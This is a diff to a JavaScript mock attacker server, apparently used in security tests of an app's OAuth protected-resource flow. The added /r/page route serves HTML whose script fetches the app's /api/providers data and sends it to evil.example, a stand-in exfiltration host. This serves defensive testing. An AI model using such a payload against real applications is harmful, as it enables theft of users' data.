@@ -2,6 +2,8 @@
 // tests, on 127.0.0.1 only. Everything it is sent is logged so a test can
 // assert what the attacker got.
 //
+// - GET /r/page: a public HTML page whose script would read the app's API if
+//   it ran on the app's origin.
 // - GET /r/<name>/...  answers 401 with
 //   WWW-Authenticate: Bearer resource_metadata="<origin>/.well-known/oauth-protected-resource/r/<name>"
 // - GET /.well-known/oauth-protected-resource/r/<name>: RFC 9728 metadata naming
@@ -153,6 +155,10 @@ server.on('request', async (req, res) => {
     const name = path.split('/')[2];
     const auth = req.headers.authorization ?? null;
     if (auth) (log.authorizations ??= []).push(auth);
+    if (name === 'page') {
+      res.writeHead(200, { 'content-type': 'text/html' });
+      return res.end('<html><body><script>fetch("/api/providers").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></body></html>');
+    }
     if (config.public?.includes(name)) return send(res, 200, { public: true, path });
     if (auth && auth.startsWith('Bearer attacker-at-')) return send(res, 200, { ok: true, path });
     return send(res, 401, { error: 'unauthorized' }, {
